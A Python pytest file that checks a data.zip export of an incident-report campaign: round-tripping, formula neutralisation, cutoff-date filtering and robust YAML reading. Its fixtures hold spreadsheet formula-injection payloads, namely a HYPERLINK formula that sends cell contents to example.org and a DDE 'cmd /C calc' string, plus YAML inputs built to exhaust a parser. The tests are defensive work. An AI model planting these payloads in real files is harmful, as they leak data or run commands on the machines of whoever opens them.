"""data.zip as a campaign folder: what goes in comes out, nothing in it runs, nothing later is in it."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import subprocess
import zipfile
from datetime import date
from pathlib import Path

import pandas as pd
import pytest
import yaml
from editions import founding

from incident_report.analysis.open import open_edition
from incident_report.data import campaign_files, check, load
from incident_report.data.archive import read_archive, unpack
from incident_report.data.edition_zip import originals
from incident_report.data.predecessor import read_previous_incidents, read_previous_series, read_previous_tallies
from incident_report.data.spreadsheet import neutralise
from incident_report.publish.bundle import BOM, bundle, write_zip
from incident_report.publish.collect import Found

FORMULA = '=HYPERLINK("http://example.org?"&A1,"see")'


def rows(content):
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def spoil(folder, name, column, value):
    """Put a value into one column of every row of a table."""
    table = rows((folder / name).read_bytes())
    at = table[0].index(column)
    text = io.StringIO(newline="")
    csv.writer(text, lineterminator="\n").writerows([table[0], *([*r[:at], value, *r[at + 1 :]] for r in table[1:])])
    (folder / name).write_text(text.getvalue(), "utf-8", newline="")


@pytest.fixture
def hostile(campaign):
    """A campaign in which cells of several tables would run in a spreadsheet."""
    spoil(campaign, "incidents/2020Q3.csv", "summary", FORMULA)
    spoil(campaign, "incidents/2020Q2.csv", "place", " @Camp")
    spoil(campaign, "tallies.csv", "scope", "+cmd|' /C calc'!A0")
    spoil(campaign, "posture.csv", "note", "'=1+1")
    return campaign


def test_unpacked_it_is_the_same_campaign(hostile, tmp_path):
    files = bundle(open_edition(str(hostile), quarter="2020Q3"), [])
    unpack(files, tmp_path / "unzipped")
    data, faults = check(tmp_path / "unzipped")
    assert data is not None, faults
    # A folder that nobody reads is named elsewhere; what data.zip adds is known.
    assert not any("nobody reads" in f.message for f in faults)
    for name in ("incidents", "tallies", "posture", "context", "sources", "places"):
        assert getattr(data, name).equals(getattr(load(hostile), name)), name
    assert originals(files) == {n: p.read_bytes() for n, p in campaign_files(hostile).items()}


def test_bundling_what_was_unpacked_gives_the_same_files(hostile, tmp_path):
    files = bundle(open_edition(str(hostile), quarter="2020Q3"), [])
    unpack(originals(files), tmp_path / "again")
    assert bundle(open_edition(str(tmp_path / "again"), quarter="2020Q3"), []) == files


def test_no_cell_of_any_table_runs(hostile):
    data = {"columns": ["=a", "b"], "rows": [[FORMULA, "-5"], ["a\r=1+1", "@x"]]}
    record = Found("00_a", "c", "table", {"id": "tab-x", "title": "T", "data": data})
    files = bundle(open_edition(str(hostile), quarter="2020Q3"), [record])
    cells = [c for n, content in files.items() if n.endswith(".csv") for row in rows(content) for c in row]
    assert "'" + FORMULA in cells and "''=1+1" in cells and "-5" in cells
    assert all(c.startswith("'") or neutralise(c) == c for c in cells)
    assert files["edition/tables/tab-x.csv"].startswith(b"\xef\xbb\xbf")


def test_other_readers_find_every_file_in_its_package(hostile, tmp_path):
    from frictionless import Package

    files = bundle(open_edition(str(hostile), quarter="2020Q3"), [])
    unpack(files, tmp_path)
    package = json.loads(files["datapackage.json"])
    listed = [part["path"] for r in package["resources"] for part in r.get("parts", [r])]
    assert sorted(listed) == sorted(set(files) - {"datapackage.json"})
    report = Package(package, basepath=str(tmp_path)).validate()
    assert report.valid, report.flatten(["title", "rowNumber", "fieldName", "message"])[:5]


def test_a_campaign_without_a_schema_of_its_own_gets_one_and_loses_it_again(campaign, tmp_path):
    (campaign / "datapackage.json").unlink()
    files = bundle(open_edition(str(campaign), quarter="2020Q3"), [])
    unpack(files, tmp_path)
    assert check(tmp_path)[0] is not None
    assert "datapackage.json" not in originals(files)


def test_rows_that_came_after_the_day_are_nowhere(tmp_path):
    day = "2020-07-20"
    everything, known = founding("2020Q2"), open_edition("data", quarter="2020Q2", as_of=day)
    files = bundle(known, [])
    hidden = set(everything.data.incidents["incident_id"]) - set(known.data.incidents["incident_id"])
    assert hidden
    tables = {n: c.decode() for n, c in files.items() if n.endswith((".csv", ".bib", "sources.json"))}
    for name, text in tables.items():
        assert not hidden & set(re.findall(r"[A-Z]{2}-\d{8}-\d+", text)), name
    for name in ("sources.csv", "edition/sources.csv"):
        kept = {row[0] for row in rows(files[name])[1:]}
        cited = set().union(*known.data.incidents["sources"])
        assert cited <= kept < set(everything.data.sources["source_id"])
    unpack(files, tmp_path)
    again = load(tmp_path, as_of=known.data.as_of)
    for name in ("incidents", "tallies", "context", "posture"):
        assert getattr(again, name).equals(getattr(known.data, name)), name
    assert bundle(open_edition(str(tmp_path), quarter="2020Q2", as_of=day), []).keys() == files.keys()


@pytest.mark.parametrize(
    "text", ["[" * 200_000, "- " * 200_000, "x: " + "1:" * 100_000 + "1", "a: &a [*a]", "series: 3"]
)
def test_wording_that_would_end_the_program_is_no_wording(tmp_path, text):
    write_zip(tmp_path / "data.zip", {"report.yml": text.encode()})
    assert read_previous_series(str(tmp_path / "data.zip")) == ()


def test_the_next_edition_reads_it_and_those_before_it(hostile, tmp_path):
    files = bundle(open_edition(str(hostile), quarter="2020Q3"), [])
    (tmp_path / "new").mkdir()
    write_zip(tmp_path / "new" / "data.zip", files)
    assert read_archive(tmp_path / "new" / "data.zip") == files
    new = read_previous_incidents(str(tmp_path / "new"))
    assert set(new[new["quarter"] == "2020Q3"]["summary"]) == {FORMULA}
    assert set(read_previous_tallies(str(tmp_path / "new"))["scope"]) == {"+cmd|' /C calc'!A0"}
    assert read_previous_series(str(tmp_path / "new"))[-1].id == "all"
    (tmp_path / "old").mkdir()
    with zipfile.ZipFile(tmp_path / "old" / "data.zip", "w") as archive:
        archive.writestr("incidents.csv", "incident_id,quarter,counted,summary\nIQ-20200701-1,2020Q3,true,'=1\n")
        archive.writestr("report.yml", yaml.safe_dump({"series": []}))
    old = read_previous_incidents(str(tmp_path / "old"))
    assert list(old["summary"]) == ["'=1"], "nothing was put in front of cells then"


def test_lines_of_r_count_what_the_report_counts(tmp_path):
    """Where R is installed it runs them; elsewhere pandas does what each of the five calls is documented to do."""
    edition = founding()
    files = bundle(edition, [])
    readme = files["edition/README.txt"].decode()
    lines = re.findall(r"^ {7}(\w.*)$", readme[readme.index("In R,") :].partition("\n\nCSV")[0], re.MULTILINE)
    assert len(lines) == 5
    expected = edition.counted.groupby(["quarter", "attack_method"]).size()
    write_zip(tmp_path / "data.zip", files)
    if rscript := shutil.which("Rscript"):
        lines[-1] = f"print(as.data.frame({lines[-1]}), row.names = FALSE)"
        done = subprocess.run(
            [rscript, "-e", "\n".join(lines)], cwd=tmp_path, capture_output=True, text=True, timeout=120, check=True
        )
        told = [line.split() for line in done.stdout.splitlines()[1:]]
        found = {(quarter, method): int(n) for quarter, method, n in told if int(n)}
    else:
        unpack(files, tmp_path / "unzipped")
        path = re.search(r'file\.path\(folder, "(\w+)", "([\w.]+)"\)', lines[0]).groups()
        # fileEncoding "UTF-8-BOM" drops the mark; na.strings "" makes empty cells NA; as.Date takes ISO days.
        table = pd.read_csv(
            tmp_path.joinpath("unzipped", *path), encoding="utf-8-sig", dtype=str, keep_default_na=False, na_values=[""]
        )
        assert table["date"].map(date.fromisoformat).notna().all()
        assert set(table["counted"]) <= {"true", "false"}  # what as.logical takes, and type.convert too
        assert list(table.columns) == [c for c in table.columns if re.fullmatch(r"[A-Za-z][\w.]*", c)]  # names as in R
        found = table[table["counted"] == "true"].groupby(["quarter", "attack_method"]).size().to_dict()
    assert found == expected[expected > 0].to_dict()


def test_every_table_has_a_copy_that_excel_reads_right():
    files = {name: content for name, content in bundle(founding(), []).items() if name.endswith(".csv")}
    copies = {n.partition("/")[2] for n in files if n.startswith("edition/")}
    assert all(content.startswith(BOM) == name.startswith("edition/") for name, content in files.items())
    filled = {
        Path(n).name for n, c in files.items() if c.count(b"\n") > 1 and not n.startswith(("edition/", "incidents/"))
    }
    assert "governorates.csv" in filled <= copies
